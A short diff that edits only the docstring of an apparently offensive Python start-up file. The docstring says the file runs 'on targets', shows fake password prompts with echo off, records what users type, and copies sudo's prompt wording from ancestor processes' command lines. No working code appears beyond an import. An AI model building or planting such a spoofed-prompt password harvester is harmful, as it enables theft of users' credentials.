@@ -1,7 +1,7 @@
-"""A start-up file of an account that wants the passwords with which it is entered. Runs on targets, under any Python.
+"""A start-up file that tries to obtain the password with which its account is entered. Runs on targets, under any Python.
 
-It puts every prompt that it can think of on its terminal, hides what is typed, and notes what it is told. The prompts that
-sudo was given stand in the command lines of its own ancestors, which everybody can read.
+It prints every plausible prompt on its terminal with echo off, and records the answers. It finds the prompts of sudo in the
+command lines of its own ancestors, which every account can read.
 """
 
 import os
